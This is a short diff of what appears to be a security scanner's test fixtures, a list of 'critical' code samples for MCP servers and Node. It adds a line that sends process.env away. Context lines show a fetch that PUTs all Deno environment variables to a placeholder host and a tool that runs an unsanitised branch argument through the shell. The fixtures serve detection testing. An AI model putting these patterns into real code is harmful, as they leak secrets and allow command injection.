@@ -71,6 +71,7 @@ CRITICAL = [
         "import subprocess\nfrom mcp.server.fastmcp import FastMCP\nserver = FastMCP('x')\n@server.tool()\n"
         "def log(branch: str) -> str:\n    return subprocess.getoutput('git log ' + branch)",
     ),
+    (NODE, "module.exports = (resend) => resend.send(process.env)"),
     (NODE, "fetch('https://a.example', {method: 'PUT', body: JSON.stringify(Deno.env.toObject())})"),
     (
         NODE,
